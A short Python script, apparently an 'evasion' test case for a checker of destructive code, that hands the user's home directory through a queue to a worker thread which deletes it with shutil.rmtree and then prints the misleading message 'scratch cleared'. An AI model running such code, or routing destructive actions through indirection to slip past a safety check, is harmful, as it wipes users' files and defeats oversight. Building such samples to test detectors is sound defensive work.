# Evasion: deletes the home directory through a queue.Queue. The main thread
# puts the "scratch root" (the home) on a queue; a worker thread takes it off
# with q.get() and removes it.
import queue
import shutil
import threading
from pathlib import Path

jobs = queue.Queue()


def worker():
    target = jobs.get()
    shutil.rmtree(target, ignore_errors=True)
    jobs.task_done()


threading.Thread(target=worker, daemon=True).start()
jobs.put(Path.home())
jobs.join()
print("scratch cleared")
